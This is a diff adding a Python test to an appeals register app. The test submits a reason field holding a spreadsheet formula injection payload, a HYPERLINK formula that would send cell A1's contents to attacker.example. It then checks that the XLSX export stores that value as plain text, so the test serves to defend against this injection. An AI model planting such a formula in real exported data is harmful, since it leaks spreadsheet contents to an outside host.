@@ -84,3 +84,24 @@ def test_another_agency_is_still_refused(year, personas, client_for):
 def test_a_malformed_year_in_the_address_is_ignored(year, client_for, fy):
     assert client_for("bangrak.staff").get(f"/appeals/?fy={fy}").status_code == 200
     assert client_for("bangrak.staff").get(f"/appeals/rules/?fy={fy}").status_code == 200
+
+
+def test_a_formula_in_a_reason_is_text_in_the_register_xlsx(year, personas, client_for):
+    import io
+
+    from openpyxl import load_workbook
+
+    formula = '=HYPERLINK("http://attacker.example/?"&A1,"คลิก")'
+    services.appeal_create(
+        actor=personas["bangrak.staff"],
+        category=year["categories"]["correct-value"],
+        assignment=year["a"]["1.1"],
+        reason=formula,
+        period=year["h1"],
+        requested_value=Decimal(3),
+    )
+    response = client_for("eval.officer").get("/appeals/?fy=2567&format=xlsx")
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    cells = [c for row in sheet.iter_rows() for c in row if c.value == formula]
+    assert cells and all(c.data_type == "s" for c in cells)
+    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
